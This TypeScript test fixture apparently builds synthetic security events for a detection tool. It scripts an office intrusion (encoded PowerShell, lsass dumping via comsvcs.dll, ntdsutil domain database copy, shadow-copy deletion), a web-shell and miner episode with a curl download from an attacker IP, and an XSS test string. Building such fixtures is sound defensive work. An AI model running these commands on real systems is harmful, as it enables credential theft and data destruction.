import type { StoredEvent } from '../../../src/core/event.ts';
import { eventId } from '../../../src/core/ids.ts';
import { companyBackground } from './company-background.ts';
import { type Episode, net, proc, step } from './event-steps.ts';

/** A text that a log line may hold and that a careless page would run. */
export const hostileText = '<img src=x onerror="window.__hostile=1"><script>window.__hostile=1</script>';

/** Attack one: a bookkeeper opens an attachment, the attacker goes on to the file server and the domain controller. */
const office: Episode[] = [
  step(
    94,
    'gn-acct-pc07',
    'process',
    'process-started',
    proc(
      'outlook.exe',
      4120,
      'explorer.exe',
      2210,
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
      'gaon\\yjkim',
    ),
  ),
  step(
    92,
    'gn-acct-pc07',
    'process',
    'process-started',
    proc(
      'excel.exe',
      5588,
      'outlook.exe',
      4120,
      'EXCEL.EXE /dde "C:\\Users\\yjkim\\AppData\\Local\\Temp\\견적서_3분기.xlsm"',
      'gaon\\yjkim',
    ),
  ),
  step(
    91.5,
    'gn-acct-pc07',
    'process',
    'process-started',
    proc(
      'powershell.exe',
      6012,
      'excel.exe',
      5588,
      'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      'gaon\\yjkim',
    ),
  ),
  step(
    91.3,
    'gn-acct-pc07',
    'network',
    'connection-attempted',
    net(6012, 'powershell.exe', '10.20.7.41', '203.0.113.77', 443),
  ),
  step(90.9, 'gn-acct-pc07', 'file', 'file-created', {
    'file.path': 'C:\\ProgramData\\upd\\svch0st.exe',
    'process.pid': 6012,
    'process.name': 'powershell.exe',
    'file.hash.sha256': 'c0ffee5d7d1d0a0be3f1f2a4b5c6d7e8f90123456789abcdef0123456789abcd',
    'user.name': 'gaon\\yjkim',
  }),
  step(90.5, 'gn-acct-pc07', 'registry', 'registry-value-set', {
    'registry.path': 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
    'registry.data.strings': 'C:\\ProgramData\\upd\\svch0st.exe',
    'process.pid': 6012,
    'process.name': 'powershell.exe',
    'user.name': 'gaon\\yjkim',
  }),
  step(
    88,
    'gn-acct-pc07',
    'process',
    'process-started',
    proc('svch0st.exe', 6440, 'powershell.exe', 6012, 'C:\\ProgramData\\upd\\svch0st.exe --quiet', 'gaon\\yjkim'),
  ),
  step(
    84,
    'gn-acct-pc07',
    'process',
    'process-started',
    proc(
      'rundll32.exe',
      6700,
      'svch0st.exe',
      6440,
      'rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\upd\\l.dmp full',
      'gaon\\yjkim',
    ),
  ),
  step(83.8, 'gn-acct-pc07', 'process', 'process-accessed', {
    'process.name': 'rundll32.exe',
    'process.pid': 6700,
    'Target.process.name': 'lsass.exe',
    'winlog.event_data.GrantedAccess': '0x1fffff',
    'user.name': 'gaon\\yjkim',
  }),
  step(71, 'gn-file01', 'authentication', 'logged-in', {
    'user.name': 'gaon\\svc_backup',
    'source.ip': '10.20.7.41',
    'winlog.logon.type': 'Network',
    'event.outcome': 'success',
  }),
  step(
    70.6,
    'gn-file01',
    'process',
    'process-started',
    proc('psexesvc.exe', 3312, 'services.exe', 780, 'C:\\Windows\\PSEXESVC.exe', 'NT AUTHORITY\\SYSTEM'),
  ),
  step(
    70.4,
    'gn-file01',
    'process',
    'process-started',
    proc(
      'cmd.exe',
      3390,
      'psexesvc.exe',
      3312,
      'cmd.exe /c whoami /all & net group "Domain Admins" /domain',
      'gaon\\svc_backup',
    ),
  ),
  step(58, 'gn-dc01', 'authentication', 'logged-in', {
    'user.name': 'gaon\\svc_backup',
    'source.ip': '10.20.1.15',
    'winlog.logon.type': 'Network',
    'event.outcome': 'success',
  }),
  step(
    57,
    'gn-dc01',
    'process',
    'process-started',
    proc(
      'ntdsutil.exe',
      5120,
      'cmd.exe',
      5088,
      'ntdsutil "ac i ntds" "ifm" "create full C:\\PerfLogs\\t" q q',
      'gaon\\svc_backup',
    ),
  ),
  step(
    41,
    'gn-file01',
    'process',
    'process-started',
    proc('vssadmin.exe', 4011, 'cmd.exe', 3390, 'vssadmin delete shadows /all /quiet', 'gaon\\svc_backup'),
  ),
];

/** Attack two: a web shell on a Linux server, then a miner. */
const web: Episode[] = [
  step(37, 'gn-web02', 'web', 'http-request', {
    'url.path': '/upload/board/img_0412.jsp',
    'source.ip': '198.51.100.23',
    'http.request.method': 'POST',
    'http.response.status_code': 200,
    'user_agent.original': hostileText,
  }),
  step(
    36.8,
    'gn-web02',
    'process',
    'process-started',
    proc('sh', 20411, 'java', 1802, `sh -c "id; uname -a; echo '${hostileText}'"`, 'tomcat'),
  ),
  step(
    34,
    'gn-web02',
    'process',
    'process-started',
    proc('curl', 20466, 'sh', 20411, 'curl -fsSL http://198.51.100.23/x.sh -o /tmp/.x', 'tomcat'),
  ),
  step(33, 'gn-web02', 'file', 'file-created', {
    'file.path': '/var/spool/cron/crontabs/tomcat',
    'process.pid': 20411,
    'process.name': 'sh',
    'user.name': 'tomcat',
  }),
  step(31, 'gn-web02', 'network', 'connection-attempted', net(20511, 'kworkerds', '10.20.3.22', '198.51.100.99', 3333)),
];

/** Administration that looks alarming. */
const administration: Episode[] = [
  step(
    160,
    'gn-mgmt01',
    'process',
    'process-started',
    proc(
      'psexec64.exe',
      9012,
      'powershell.exe',
      8840,
      'psexec64.exe \\\\gn-pos11 -s msiexec /i \\\\gn-file01\\deploy\\agent-5.2.msi /qn',
      'gaon\\adm.park',
    ),
  ),
  step(
    140,
    'gn-wsus01',
    'process',
    'process-started',
    proc(
      'wuauclt.exe',
      2200,
      'svchost.exe',
      912,
      'wuauclt.exe /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 7d',
      'NT AUTHORITY\\SYSTEM',
    ),
  ),
  step(
    25,
    'gn-backup01',
    'process',
    'process-started',
    proc('vssadmin.exe', 5002, 'backupagent.exe', 3001, 'vssadmin create shadow /for=D:', 'NT AUTHORITY\\SYSTEM'),
  ),
  step(12, 'gn-dev-lx03', 'authentication', 'logon-failed', {
    'user.name': 'root',
    'source.ip': '10.20.9.18',
    'process.name': 'sshd',
    'process.pid': 771,
    'event.outcome': 'failure',
  }),
];

/** Partition 7 holds the episodes and the background, in the order of time, as received. */
const partition = 7;

/** Everything the company's sensors said, oldest first. */
export function companyEvents(now: number): StoredEvent[] {
  const episodes = [...office, ...web, ...administration, ...companyBackground()];
  episodes.sort((one, other) => other.minutesAgo - one.minutesAgo);
  return episodes.map(({ minutesAgo, ...episode }, index) => {
    const at = now - Math.round(minutesAgo * 60_000);
    return {
      ...episode,
      id: eventId(partition, index + 1),
      at,
      receivedAt: at + 240,
      sourceId: sourceOf(episode.host),
    };
  });
}

export function sourceOf(host: string): number {
  if (host === 'gn-web02' || host === 'gn-dev-lx03') return 2;
  return host === 'gn-fw01' ? 3 : 1;
}
